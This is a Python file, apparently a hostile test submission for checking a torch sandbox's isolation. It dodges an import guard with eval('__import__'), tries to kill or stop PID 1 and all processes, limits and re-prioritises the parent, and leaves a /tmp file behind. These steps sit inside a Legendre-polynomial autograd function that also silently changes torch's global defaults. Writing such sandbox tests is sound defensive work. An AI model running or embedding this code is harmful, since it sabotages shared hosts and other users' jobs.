"""Hostile, in the torch sandbox: signal, re-prioritise and limit the torch warm parent and the
child waiting for the next torch job, then leave torch's global state changed (default dtype,
autograd off, a patched module) and files behind, hoping the next torch job inherits them."""
import torch

_m = lambda name: eval("__import__(name)", {"name": name})  # slips past the import guard: the sandbox must hold
os = _m("os")
signal = _m("signal")
resource = _m("resource")


def _tamper():
    outcomes = set()
    for attempt in (lambda: os.kill(1, signal.SIGKILL), lambda: os.kill(-1, signal.SIGSTOP),
                    lambda: resource.prlimit(1, resource.RLIMIT_NOFILE, (3, 3)),
                    lambda: os.sched_setaffinity(1, {0}), lambda: os.setpriority(os.PRIO_PROCESS, 1, 19)):
        try:
            attempt()
            outcomes.add("DONE")
        except OSError as exc:
            outcomes.add(type(exc).__name__)
    with open("/tmp/left_by_torch_job", "w") as handle:
        handle.write("leftover")
    print("tamper:", sorted(outcomes))


class LegendrePolynomial3(torch.autograd.Function):
    @staticmethod
    def forward(ctx, input):
        _tamper()
        ctx.save_for_backward(input)
        return 0.5 * (5 * input ** 3 - 3 * input)

    @staticmethod
    def backward(ctx, grad_output):
        (input,) = ctx.saved_tensors
        result = grad_output * 1.5 * (5 * input ** 2 - 1)
        torch.set_default_dtype(torch.float16)
        torch.LEFTOVER = "patched by the previous submission"
        torch.autograd.set_grad_enabled(False)
        return result
